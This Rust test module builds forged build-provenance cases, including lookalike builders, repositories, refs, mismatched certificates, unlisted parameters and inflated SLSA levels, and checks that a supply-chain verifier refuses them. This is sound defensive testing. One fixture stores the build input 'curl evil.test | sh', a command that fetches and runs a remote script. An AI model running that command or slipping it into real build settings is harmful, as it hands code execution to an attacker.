//! Attacks on build provenance. The attacker controls other workflows, sources and builds on the same forge, or can
//! change what a builder writes into its provenance.

use lastmile_testkit::sigstore::{self, Identity};
use lastmile_testkit::{Repository, TestKey};
use serde_json::{Value, json};

use super::{ISSUER, WORKFLOW, accepted, envelope, instance, refused_evidence, under_with_root};
use crate::{Case, EVIL, GOOD, Scenario};

pub(super) const SCENARIOS: &[Scenario] = &[
    Scenario::new(
        "7-other-builder",
        &["7-other-builder"],
        "the builder's ID is not in the policy; in some cases, it begins like an ID in the policy",
        "slsa-verifier",
        other_builder,
    ),
    Scenario::new(
        "7-other-source",
        &["7-other-source"],
        "a package was built from another repository, from a branch, or from another tag, such as v1.0.30 instead of v1.0",
        "slsa-verifier",
        other_source,
    ),
    Scenario::new(
        "7-other-platform",
        &["7-other-platform"],
        "the provenance names a builder but is signed by another platform, or names the runner as the builder",
        "slsa-verifier",
        other_platform,
    ),
    Scenario::new(
        "7-uncertified",
        &["7-uncertified"],
        "the provenance names a different builder, repository, ref or commit than the certificate of its signer",
        "slsa-verifier",
        uncertified,
    ),
    Scenario::new(
        "7-parameters",
        &["7-parameters"],
        "a build had parameters that the policy does not list, or the provenance records no parameters",
        "SLSA, verifying artifacts",
        parameters,
    ),
    Scenario::new(
        "7-level",
        &["7-level"],
        "a builder claims a higher level in its provenance than the policy gives it",
        "SLSA, verifying artifacts",
        level,
    ),
    Scenario::new(
        "7-not-provenance",
        &["7-not-provenance"],
        "a publish attestation, a verification summary or an unknown version of provenance is offered as provenance",
        "GHSA-r2xv-vpr2-42m9",
        not_provenance,
    ),
    Scenario::new(
        "7-provenance",
        &["7-provenance"],
        "harmless: a builder that the policy names built the package from the required source, and signed the provenance",
        "docs/policy.md",
        built_as_demanded,
    ),
];

const PROVENANCE: &str = "https://slsa.dev/provenance/v1";
const REPOSITORY: &str = "https://forge.test/acme/app";
const REFERENCE: &str = "refs/tags/v1.0";
const COMMIT: &str = "1111111111111111111111111111111111111111";

/// The ID of a builder that is not on the forge, and that signs with a key instead of a certificate.
const CLOUD: &str = "https://cloud.test/builder";

fn cloud() -> TestKey {
    TestKey::new("a cloud")
}

/// The provenance of a build, and the identity in the certificate of its signer.
#[derive(Clone)]
struct Build {
    identity: Identity,
    predicate: Value,
    predicate_type: &'static str,
}

impl Build {
    /// Returns a build whose certificate and provenance name the same workflow, repository, ref and commit.
    fn by(workflow: &str, repository: &str, reference: &str) -> Build {
        let builder = format!("{workflow}@{reference}");
        let identity = Identity::uri(ISSUER, &builder)
            .claim("build-signer-uri", &builder)
            .claim("runner-environment", "github-hosted")
            .claim("source-repository-uri", repository)
            .claim("source-repository-ref", reference)
            .claim("source-repository-digest", COMMIT);
        let predicate = json!({
            "buildDefinition": {
                "buildType": "https://actions.github.io/buildtypes/workflow/v1",
                "externalParameters": {"workflow": {"repository": repository, "ref": reference}, "inputs": {}},
                "resolvedDependencies": [{"digest": {"gitCommit": COMMIT}}],
            },
            "runDetails": {"builder": {"id": builder}},
        });
        Build { identity, predicate, predicate_type: PROVENANCE }
    }

    fn demanded() -> Build {
        Build::by(WORKFLOW, REPOSITORY, REFERENCE)
    }

    fn set(mut self, pointer: &str, value: Value) -> Build {
        *self.predicate.pointer_mut(pointer).expect("a member of the predicate") = value;
        self
    }

    fn builder(self, id: &str) -> Build {
        self.set("/runDetails/builder/id", id.into())
    }

    fn statement(&self, content: &[u8]) -> Value {
        sigstore::statement(self.predicate_type, &self.predicate, content)
    }

    fn signed(&self, content: &[u8]) -> String {
        instance().attest(&self.identity, &self.statement(content)).to_string()
    }

    fn refused(&self, honest: &Repository, sample: &str, because: &'static str) -> Case {
        refused_evidence(honest, sample, because, &[&self.signed(EVIL)])
    }
}

/// Returns a repository whose top-level targets role requires that a builder of level 3 built the packages of `team`.
///
/// The policy gives level 1 to the builder `laptop` and level 3 to all other builders. However, provenance that names
/// `runner` proves at most level 2, because any workflow can write the runner's ID into its
/// provenance.
fn honest() -> Repository {
    let policy = json!({
        "version": 1,
        "trust": {"public": {"root": "trust/root.json"}},
        "signer": {
            "forge": {
                "trust": "public",
                "issuer": ISSUER,
                "subject": ["https://forge.test/*/*/.forge/workflows/*@refs/*/*"],
            },
            "cloud": {"key": cloud().object()},
        },
        "builder": {
            "forge": {"id": [format!("{WORKFLOW}@refs/tags/v*")], "by": ["forge"], "level": 3},
            "runner": {"id": ["https://github.com/actions/runner/github-hosted"], "by": ["forge"], "level": 3},
            "cloud": {"id": [CLOUD], "by": ["cloud"], "level": 3},
            "laptop": {"id": ["https://cloud.test/laptop"], "by": ["cloud"], "level": 1},
        },
        "require": [{
            "name": "built", "kind": "provenance", "paths": ["team/*"],
            "builder": ["forge", "runner", "cloud", "laptop"],
            "level": 3, "source": [format!("git+{REPOSITORY}")], "ref": [REFERENCE], "parameters": "none",
        }],
    });
    under_with_root(policy, &instance().trusted_root(), &[&Build::demanded().signed(GOOD)])
}

fn other_builder() -> Vec<Case> {
    let honest = honest();
    let case = |sample: &str, workflow: &str| {
        Build::by(workflow, REPOSITORY, REFERENCE).refused(&honest, sample, "the builder is")
    };
    vec![
        case("another workflow", &WORKFLOW.replace("release", "test")),
        case("a longer name", &format!("{WORKFLOW}.evil")),
        case("another owner", &WORKFLOW.replace("acme", "mallory")),
        Build::by(WORKFLOW, REPOSITORY, "refs/heads/v1.0").refused(&honest, "a branch", "the builder is"),
    ]
}

fn other_source() -> Vec<Case> {
    let honest = honest();
    // Other repositories can call the builder's workflow, and the workflow can run for any ref. The builder of these
    // builds is therefore permitted; only the source or the ref is wrong.
    let case = |sample: &str, because: &'static str, repository: &str, reference: &str| {
        let build = Build::by(WORKFLOW, REPOSITORY, REFERENCE);
        let identity = build.identity.clone();
        let identity = identity.claim("source-repository-uri", repository).claim("source-repository-ref", reference);
        Build { identity, ..build }
            .set("/buildDefinition/externalParameters/workflow/repository", repository.into())
            .set("/buildDefinition/externalParameters/workflow/ref", reference.into())
            .refused(&honest, sample, because)
    };
    let [source, reference] = ["the source is", "the ref is"];
    vec![
        case("a longer name", source, "https://forge.test/acme/app-evil", REFERENCE),
        case("a name before it", source, "https://forge.test/mallory/acme/app", REFERENCE),
        case("another host", source, "https://forge.test.evil.test/acme/app", REFERENCE),
        case("a branch", reference, REPOSITORY, "refs/heads/v1.0"),
        case("a longer version", reference, REPOSITORY, "refs/tags/v1.0.30"),
        case("a shorter version", reference, REPOSITORY, "refs/tags/v1"),
    ]
}

fn other_platform() -> Vec<Case> {
    let honest = honest();
    let runner = "https://github.com/actions/runner/github-hosted";
    let by_cloud = envelope(&cloud(), &Build::demanded().statement(EVIL));
    vec![
        Build::demanded().builder(CLOUD).refused(
            &honest,
            "provenance of the builder `cloud`, signed by `forge`",
            "the builder of the provenance",
        ),
        refused_evidence(
            &honest,
            "provenance of the builder `forge`, signed by `cloud`",
            "the builder is",
            &[&by_cloud],
        ),
        Build::demanded().builder(runner).refused(&honest, "a runner", "has level 2, expected at least 3"),
    ]
}

fn uncertified() -> Vec<Case> {
    let honest = honest();
    let other = |build: Build, sample: &str| build.refused(&honest, sample, "but the certificate's claim");
    let demanded = Build::demanded;
    let stranger = Build::by(&WORKFLOW.replace("release", "test"), "https://forge.test/mallory/app", "refs/heads/main");
    let without_claims = Identity::uri(ISSUER, &format!("{WORKFLOW}@{REFERENCE}"));
    let commit = "/buildDefinition/resolvedDependencies/0/digest/gitCommit";
    vec![
        other(
            Build {
                identity: demanded().identity.claim("source-repository-uri", "https://forge.test/acme/fork"),
                ..demanded()
            },
            "repository",
        ),
        other(
            Build { identity: demanded().identity.claim("source-repository-ref", "refs/heads/main"), ..demanded() },
            "ref",
        ),
        other(demanded().set(commit, "2".repeat(40).into()), "commit"),
        other(
            Build {
                identity: demanded().identity.claim("build-signer-uri", &WORKFLOW.replace("release", "test")),
                ..demanded()
            },
            "builder",
        ),
        other(Build { identity: stranger.identity, ..demanded() }, "all of them"),
        Build { identity: without_claims, ..demanded() }.refused(&honest, "no claims", "the certificate has no claim"),
        demanded().set(commit, Value::Null).refused(&honest, "no commit", "names no commit"),
    ]
}

fn parameters() -> Vec<Case> {
    let honest = honest();
    let parameters = "/buildDefinition/externalParameters";
    let case = |sample: &str, because: &'static str, change: &dyn Fn(&mut Value)| {
        let mut build = Build::demanded();
        change(build.predicate.pointer_mut(parameters).expect("parameters"));
        build.refused(&honest, sample, because)
    };
    let not_allowed = "which is not allowed";
    vec![
        case("an input", not_allowed, &|parameters| parameters["inputs"] = json!({"script": "curl evil.test | sh"})),
        case("an unknown member", not_allowed, &|parameters| parameters["debug"] = json!(true)),
        case("a variable", not_allowed, &|parameters| parameters["vars"] = json!({"CC": "evil"})),
        case("not recorded", "does not record the parameters", &|parameters| {
            parameters.as_object_mut().expect("an object").remove("inputs");
        }),
    ]
}

fn level() -> Vec<Case> {
    let honest = honest();
    let mut build = Build::demanded().builder("https://cloud.test/laptop");
    build.predicate["runDetails"]["builder"]["level"] = json!(3);
    build.predicate["runDetails"]["metadata"] = json!({"buildLevel": "SLSA_BUILD_LEVEL_3", "slsaLevel": 3});
    let evidence = envelope(&cloud(), &build.statement(EVIL));
    vec![refused_evidence(&honest, "level 3", "has level 1, expected at least 3", &[&evidence])]
}

fn not_provenance() -> Vec<Case> {
    let honest = honest();
    let case = |sample: &str, because: &'static str, predicate_type: &'static str| {
        Build { predicate_type, ..Build::demanded() }.refused(&honest, sample, because)
    };
    let because = "expected a type of provenance";
    let unknown = Build::demanded().set("/buildDefinition/buildType", "https://forge.test/unknown/v1".into());
    vec![
        case("published", because, "https://github.com/npm/attestation/tree/main/specs/publish/v0.1"),
        case("a verification summary", because, "https://slsa.dev/verification_summary/v1"),
        case("an older version", because, "https://slsa.dev/provenance/v0.1"),
        case("a newer version", because, "https://slsa.dev/provenance/v2"),
        case("another form", "the provenance has no string", "https://slsa.dev/provenance/v0.2"),
        unknown.refused(&honest, "an unknown build type", "is not supported"),
    ]
}

fn built_as_demanded() -> Vec<Case> {
    let honest = honest();
    let by_cloud = envelope(&cloud(), &Build::demanded().builder(CLOUD).statement(GOOD));
    vec![
        accepted(&honest, "by the forge", &[&Build::demanded().signed(GOOD)]),
        accepted(&honest, "by the cloud", &[&by_cloud]),
    ]
}
